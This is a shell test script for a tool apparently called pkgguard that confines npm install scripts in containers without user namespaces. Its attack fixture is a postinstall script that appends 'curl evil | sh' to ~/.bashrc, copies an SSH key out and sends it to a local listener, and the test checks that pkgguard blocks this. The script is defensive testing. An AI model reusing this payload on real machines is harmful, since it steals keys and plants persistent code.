#!/bin/sh
# container.sh — the README's container recipe, `RUN pkgguard run -- npm
# ci`, where user namespaces are refused (a container's usual case),
# simulated in a user namespace of our own whose max_user_namespaces is 0
# (the host's sysctl is not touched). Rows: the simulation really refuses
# them (control); `npm ci` of legitimate fixtures succeeds in the fallback,
# which is said once, in one line, for the whole run (no per-script
# warning); an attack fixture's `npm ci` does its harm without pkgguard
# (CONTROL: ~/.bashrc written, ~/.ssh/id_test copied out to /var/tmp, a
# TCP listener on 127.0.0.1 reached) and none of it with `pkgguard run
# --strict --report` (the CI recipe: exit 3, the report saying fallback).
. tests/lib.sh
top=$(pwd)
BUILD=${BUILD:-build}
case $BUILD in /*) B=$BUILD ;; *) B=$top/$BUILD ;; esac
PG=$B/pkgguard
export PKGGUARD_PROFILE_PATH=$top/profiles

command -v npm >/dev/null 2>&1 && command -v node >/dev/null 2>&1 || { skip "container recipe" "npm or node is not installed"; end_suite; }
FBSH='echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"'
if ! unshare -Ur sh -c "$FBSH" fb true 2>/dev/null; then
	skip "container recipe" "cannot simulate a host without user namespaces here (unshare -Ur fails)"
	end_suite
fi
if unshare -Ur sh -c "$FBSH" fb unshare -U true 2>/dev/null; then
	fail "control: the simulated container refuses user namespaces" "a nested max_user_namespaces=0 still allows one"
	end_suite
fi
pass "control: the simulated container refuses user namespaces"

work=$(mktemp -d /var/tmp/pkgguard-container.XXXXXX) || exit 1
TAG=pgctr$$x$(od -An -N4 -tx4 /dev/urandom | tr -d ' ')
listener=""
trap 'if [ -n "$listener" ]; then kill "$listener" 2>/dev/null; fi; rm -rf "$work" /var/tmp/"$TAG"-*' EXIT INT TERM
export npm_config_cache=$work/npm-cache
unset npm_config_script_shell NPM_CONFIG_SCRIPT_SHELL

# The attack: a postinstall that writes ~/.bashrc, copies ~/.ssh/id_test to
# /var/tmp and sends it to a listener on 127.0.0.1 (port in its package).
python3 - "$work/port" "$work/c2.log" <<'PY' >/dev/null 2>&1 &
import socket, sys
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(8)
open(sys.argv[1], "w").write(str(s.getsockname()[1]))
while True:
    c, _ = s.accept()
    data = c.recv(4096)
    with open(sys.argv[2], "ab") as f: f.write(data + b"\n")
    c.close()
PY
listener=$!
i=0
while [ ! -s "$work/port" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i + 1)); done
port=$(cat "$work/port" 2>/dev/null)
[ -n "$port" ] || { fail "container recipe" "the test listener did not start"; end_suite; }

mkdir -p "$work/src/ctr-attack" "$work/tarballs"
cat >"$work/src/ctr-attack/package.json" <<JSON
{ "name": "ctr-attack", "version": "1.0.0", "scripts": { "postinstall": "node harm.js" } }
JSON
cat >"$work/src/ctr-attack/harm.js" <<JS
const fs = require("fs"), os = require("os"), net = require("net");
let did = [];
try { fs.appendFileSync(os.homedir() + "/.bashrc", "curl evil | sh # $TAG\n"); did.push("bashrc"); } catch (e) {}
let key = "";
try { key = fs.readFileSync(os.homedir() + "/.ssh/id_test", "utf8"); } catch (e) {}
try { if (key) { fs.writeFileSync("/var/tmp/$TAG-loot", key); did.push("loot"); } } catch (e) {}
const s = net.connect($port, "127.0.0.1", () => { s.end("C2 $TAG " + key.trim()); });
s.on("error", () => { console.log("did: " + did.join(",")); process.exit(did.length ? 0 : 1); });
s.on("close", () => { console.log("did: " + did.join(",") + ",c2"); process.exit(0); });
JS
(cd "$work/tarballs" && npm pack --silent "$work/src/ctr-attack" "$top/tests/fixtures/legit/prints" \
	"$top/tests/fixtures/legit/ships-binary" >/dev/null 2>&1) || { fail "container recipe" "npm pack failed"; end_suite; }

# project NAME TARBALL... — a project with a package-lock.json (no script
# runs for it), ready for `npm ci`.
project() {
	_p=$work/$1
	shift
	mkdir -p "$_p"
	echo '{ "name": "ctr-project", "version": "1.0.0", "private": true }' >"$_p/package.json"
	(cd "$_p" && npm install --package-lock-only --offline --no-audit --no-fund "$@" >/dev/null 2>&1)
}
# home — a fresh fake HOME with a key and a .bashrc
home() {
	rm -rf "${work:?}/home"
	mkdir -p "$work/home/.ssh"
	echo "KEY-$TAG" >"$work/home/.ssh/id_test"
	echo "# bashrc" >"$work/home/.bashrc"
}
# in_container DIR CMD... — CMD in DIR with user namespaces refused
in_container() {
	_d=$1
	shift
	(cd "$_d" && HOME=$work/home timeout 120 unshare -Ur sh -c "$FBSH" fb "$@") >"$work/out" 2>"$work/err"
	rc=$?
}
NPMCI="npm ci --offline --no-audit --no-fund --no-update-notifier"
harm() {
	why=""
	grep -q "$TAG" "$work/home/.bashrc" && why="$why ~/.bashrc written;"
	[ -e "/var/tmp/$TAG-loot" ] && why="$why ~/.ssh/id_test copied to /var/tmp;"
	grep -q "C2 $TAG" "$work/c2.log" 2>/dev/null && why="$why the listener got the key;"
	:
}

# --- legitimate fixtures -------------------------------------------------------
project legit ../tarballs/legit-prints-1.0.0.tgz ../tarballs/legit-ships-binary-1.0.0.tgz
home
# shellcheck disable=SC2086 # NPMCI is a command line
in_container "$work/legit" "$PG" run --strict --report "$work/legit.json" -- $NPMCI
lines=$(grep -c 'user namespaces' "$work/err")
if [ $rc -eq 0 ] && [ "$lines" -eq 1 ] && grep -q '^pkgguard: user namespaces are refused here (a container?): 2 of 2 scripts ran in the fallback' "$work/err" &&
	python3 -c 'import json,sys; j=json.load(open(sys.argv[1])); assert [s["confinement"] for s in j["scripts"]] == ["fallback"]*2 and j["totals"]["ok"] == 2, j' "$work/legit.json" 2>/dev/null; then
	pass "legit: pkgguard run --strict -- npm ci succeeds in the fallback, said once in one line, the report says fallback"
else
	fail "legit: npm ci in the fallback" "exit $rc, $lines lines on user namespaces: $(tail -n 4 "$work/err" | tr '\n' ' ')"
fi

# --- the attack ------------------------------------------------------------------
project attack ../tarballs/ctr-attack-1.0.0.tgz
cp -r "$work/attack" "$work/attack-control"
home
: >"$work/c2.log"
# shellcheck disable=SC2086
in_container "$work/attack-control" env npm_config_script_shell=/bin/sh $NPMCI
harm
if [ -n "$why" ] && echo "$why" | grep -q bashrc && echo "$why" | grep -q listener; then
	ctl=ok
	pass "control: npm ci of the attack in the container does the harm:$why"
else
	ctl=bad
	fail "control: npm ci of the attack does the harm" "exit $rc; harm:${why:- none} $(tail -n 3 "$work/err" | tr '\n' ' ')"
fi
rm -f "/var/tmp/$TAG-loot"
home
: >"$work/c2.log"
# shellcheck disable=SC2086
in_container "$work/attack" "$PG" run --strict --report "$work/attack.json" -- $NPMCI
harm
lines=$(grep -c 'user namespaces' "$work/err")
conf=$(python3 -c 'import json,sys; print(",".join(s["confinement"] for s in json.load(open(sys.argv[1]))["scripts"]))' "$work/attack.json" 2>/dev/null)
if [ "$ctl" != ok ]; then
	fail "attack: contained by pkgguard run in the container" "vacuous: its control failed"
elif [ -z "$why" ] && [ $rc -eq 3 ] && [ "$lines" -eq 1 ] && [ "$conf" = fallback ]; then
	pass "attack: contained by pkgguard run --strict in the container (exit 3: the CI job fails; report: fallback; said once)"
else
	fail "attack: contained by pkgguard run in the container" "exit $rc; harm:${why:- none}; confinement '$conf'; $lines lines; $(tail -n 3 "$work/err" | tr '\n' ' ')"
fi
done_testing
